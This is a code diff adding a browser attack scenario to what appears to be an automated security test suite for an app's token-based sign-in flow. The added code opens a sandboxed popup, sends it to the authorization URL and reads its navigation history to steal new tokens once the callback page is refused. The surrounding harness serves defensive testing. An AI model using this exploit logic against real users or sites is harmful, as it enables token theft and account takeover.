@@ -184,6 +184,48 @@ export const refusedRedirectOfTheHost = attack({
   },
 });
 
+export const refusedPopup = attack({
+  name: "lets the browser refuse the callback's page in a sandboxed popup, and reads the popup's history",
+  threat: "acquisition of new tokens",
+  target: "the app's origin",
+  alone: true,
+  wantsCode: true,
+  hook(it) {
+    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
+    const look = () => it.steal((navigation?.entries() ?? []).map(({ url }) => url));
+    look();
+    addEventListener("pageshow", look);
+  },
+  // Browsers load no page with an opener policy in a popup that inherits a sandbox.
+  async payload(it) {
+    const frame = document.createElement("iframe");
+    frame.setAttribute("sandbox", "allow-same-origin allow-scripts allow-popups");
+    document.body.append(frame);
+    const page = `<!doctype html><script src="${new URL("/assets/dependency.js", it.appUrl)}"></script>`;
+    const own = URL.createObjectURL(new Blob([page], { type: "text/html" }));
+    const popup = frame.contentWindow?.open(own);
+    if (!popup) throw new Error("the browser opened no popup");
+    // WebKitGTK loads the page, but never lets this one see it.
+    const isLoaded = () => popup.document.URL === own && popup.document.readyState === "complete";
+    for (let tries = 0; tries < 50 && !isLoaded(); tries++) await it.pause(20);
+    popup.location.href = it.authorizationUrl();
+  },
+  async play(stage) {
+    const { browser, site } = stage;
+    await stage.openSignedIn();
+    const tab = await browser.currentTab();
+    await stage.injectOnClick();
+    const [popup = ""] = (await browser.driver.getAllWindowHandles()).filter((handle) => handle !== tab);
+    await browser.switchTo(popup);
+    await browser.waitFor("the end of the flow", async () => (await browser.url()).startsWith(site.origin));
+    // The user goes back from the browser's error page.
+    await browser.driver.navigate().back();
+    await browser.waitFor("the attacker's page", async () => (await browser.url()).startsWith("blob:"));
+    await browser.evaluate(() => globalThis.attacker?.flush());
+    await stage.closeTab(tab);
+  },
+});
+
 export const silentFlowByFetch = attack({
   name: "runs a silent flow by fetch, image, script, object and prefetch",
   threat: "acquisition of new tokens",
